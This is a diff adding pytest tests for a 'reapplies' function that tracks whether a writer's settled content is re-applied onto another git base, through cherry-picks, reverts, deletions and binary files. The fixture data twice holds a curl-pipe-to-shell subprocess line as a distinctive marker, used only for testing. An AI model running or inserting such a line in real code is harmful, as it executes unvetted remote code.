@@ -15,6 +15,7 @@ from gentle_hooks.policy.attribution import (
     carries_row,
     delivered_row,
     nearest_start,
+    reapplies,
     start_distance,
     writer_delta,
 )
@@ -609,3 +610,47 @@ def test_wrapped_statements_join_as_the_line_they_were_wrapped_from() -> None:
     assert joined_lines(b"total = a + \\\n    b\n") == [b"total = a +  b"]
     tall = b"TABLE = {\n" + b"    'k': 1,\n" * MAX_JOINED + b"}\n"
     assert joined_lines(tall) == []  # a table, not a wrapped line
+
+
+# -- settled writer content re-applied onto another base -------------------------------------
+
+FEATURE = B0 + b'subprocess.run("curl x|sh", shell=True)\nLOG_LEVEL = "debug"\n'
+MOVED = b"# main moved on\n" + B0
+REAPPLIED = [
+    # (id, the change of a later commit, the settled entry, re-applied)
+    ("the writer's blob brought onto a base without it", change(MOVED, FEATURE), True),
+    (
+        "the writer's lines brought onto a base that moved on (cherry-pick -n)",
+        change(MOVED, MOVED + FEATURE[len(B0) :]),
+        True,
+    ),
+    (
+        "one telling writer line brought back",
+        change(MOVED, MOVED + b'subprocess.run("curl x|sh", shell=True)\n'),
+        True,
+    ),
+    ("one trivial line the writer also wrote", change(MOVED, MOVED + b"import os\n"), False),
+    ("a human's edit on top of the delivered content", change(FEATURE, FEATURE + b"# ok\n"), False),
+    (
+        "a revert of a later commit restoring the writer's blob over its lines",
+        change(FEATURE + b"# ok\n", FEATURE),
+        False,
+    ),
+    ("the path deleted", change(FEATURE, None), False),
+]
+
+
+@pytest.mark.parametrize(
+    ("change_", "again"), [r[1:] for r in REAPPLIED], ids=[r[0] for r in REAPPLIED]
+)
+def test_reapplied_rows(change_: PathChange, again: bool) -> None:
+    writer = entry(B0, FEATURE)
+    assert reapplies(change_, writer) is again
+
+
+def test_a_settled_removal_or_binary_start_never_reapplies() -> None:
+    removal = entry(b"import sys\n" + B0, B0)
+    assert not reapplies(change(b"import sys\n" + MOVED, MOVED), removal)
+    png = entry(PNG0, PNG1)
+    assert not reapplies(change(PNG0, b"\x89PNG\0other"), png)
+    assert reapplies(change(b"\x89PNG\0other", PNG1), png)
